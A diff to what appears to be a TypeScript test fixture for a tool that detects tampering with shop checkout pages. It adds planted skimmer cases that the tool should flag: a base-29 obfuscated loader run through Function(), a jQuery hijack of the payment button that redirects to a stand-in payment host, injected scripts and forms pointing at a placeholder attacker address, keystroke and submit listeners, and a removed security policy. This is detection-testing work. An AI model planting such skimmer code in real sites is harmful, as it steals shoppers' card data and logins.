@@ -1,5 +1,16 @@
 import type { ScriptChangeKind } from '@palisade/vocabulary';
-import { APP, FORM, LAYER, type LabShop, labShop, MANAGER, TAGS } from './lab-shop';
+import {
+  account,
+  APP,
+  FORM,
+  LAYER,
+  type LabShop,
+  labShop,
+  LISTENING,
+  MANAGER,
+  ORDERS,
+  TAGS,
+} from './lab-shop';
 
 export interface PlantedChange {
   name: string;
@@ -25,6 +36,10 @@ const SKIMMERS: Readonly<Record<string, string>> = {
   'a second form in a frame': `var f=document.createElement('iframe');f.src='${EVIL}';document.forms[0].replaceWith(f);`,
   'a script that is loaded later': `setTimeout(function(){var s=document.createElement('script');s.src='${EVIL}.js';document.body.appendChild(s)},9000);`,
   'a store on the site itself': `setInterval(function(){localStorage.setItem('_k',JSON.stringify([].map.call(document.forms[0].elements,function(i){return i.value})))},500);`,
+  // magento/magento2#40466: one long text, numbers in base 29, and a function that is made of them.
+  'a program as numbers': `var j = "1k3t30${[...EVIL].map((letter) => letter.charCodeAt(0).toString(29)).join('t30')}", p = j.split("t30"), o = [], n; for (n = 1; n < p.length; n++) o.push(String.fromCharCode(parseInt(p[n], 29))); Function(o.join(''))();`,
+  // gwillem/magento-malware-scanner#147: the buttons of the checkout lead to another payment page.
+  'other handlers of the buttons': `jQuery(document).ready(function(){if(!(document.cookie.indexOf('userpayid')+1))jQuery('*[onclick="payment.save()"]').attr('onclick','paynow();')});function paynow(){document.cookie='userpayid='+Math.random();jQuery(location).attr('href','//paymentpal.example.org/?payment='+btoa(location.host))}`,
   'a path of the site itself': `document.forms[0].addEventListener('submit',function(e){fetch('/img/p.gif',{method:'POST',body:new FormData(e.target)})});`,
 };
 
@@ -75,6 +90,9 @@ const csp = (policy: string): LabShop =>
 const without = (name: string): LabShop =>
   labShop({ headers: Object.fromEntries(Object.entries(base.headers).filter(([each]) => each !== name)) });
 const withForm = (form: string): LabShop => labShop({ body: base.body.replace(FORM, form) });
+
+const listening = (more: Partial<typeof LISTENING>): LabShop =>
+  labShop({ listeners: [LISTENING, { ...LISTENING, ...more }] });
 
 const others: readonly (readonly [string, ScriptChangeKind, LabShop])[] = [
   [
@@ -139,6 +157,55 @@ const others: readonly (readonly [string, ScriptChangeKind, LabShop])[] = [
   ['frames of others are allowed', 'header_changed', without('x-frame-options')],
   ['a form of another host', 'form_changed', withForm(FORM.replace('/pay/17', EVIL))],
   ['a form of another path', 'form_changed', withForm(FORM.replace('/pay/17', '/wp-content/p'))],
+  ['a script that was there listens to the card number', 'listener_added', listening({ script: TAGS })],
+  ['a script of the site listens to keys too', 'listener_added', listening({ events: ['keydown'] })],
+  [
+    'a program of the page hears of all keys',
+    'listener_added',
+    listening({ script: null, at: 'page', events: ['keydown'] }),
+  ],
+  [
+    'a script that was there hears what the form sends',
+    'listener_added',
+    listening({ at: 'form', events: ['submit'] }),
+  ],
+  [
+    'a new file that listens',
+    'script_added',
+    labShop({
+      head: `${base.head}<script src="${EVIL}.js"></script>`,
+      listeners: [LISTENING, { ...LISTENING, script: `${EVIL}.js` }],
+    }),
+  ],
+  [
+    'a new program that listens by the library of the site',
+    'script_added',
+    labShop({
+      body: `${base.body}<script>${SKIMMERS['form data by fetch'] ?? ''}</script>`,
+      listeners: [LISTENING, { ...LISTENING, events: ['keyup'] }],
+    }),
+  ],
+  ['a file on a page of an account', 'script_added', account(`${ORDERS}<script src="${EVIL}.js"></script>`)],
+  [
+    'a program on a page of an account',
+    'script_added',
+    account(`${ORDERS}<script>${SKIMMERS.sendBeacon ?? ''}</script>`),
+  ],
+  [
+    'a form on a page of an account',
+    'form_changed',
+    account(`${ORDERS}<form method="post" action="${EVIL}"><input name="q"></form>`),
+  ],
+  [
+    'a file for accounts alone, on the page with the card form',
+    'script_added',
+    labShop({ account: { ...base.account, head: `${base.head}<script src="${EVIL}.js"></script>` } }),
+  ],
+  [
+    'the policy is gone for accounts',
+    'header_changed',
+    account(ORDERS, { headers: { ...base.headers, 'content-security-policy': '' } }),
+  ],
   [
     'the page says something else',
     'page_changed',
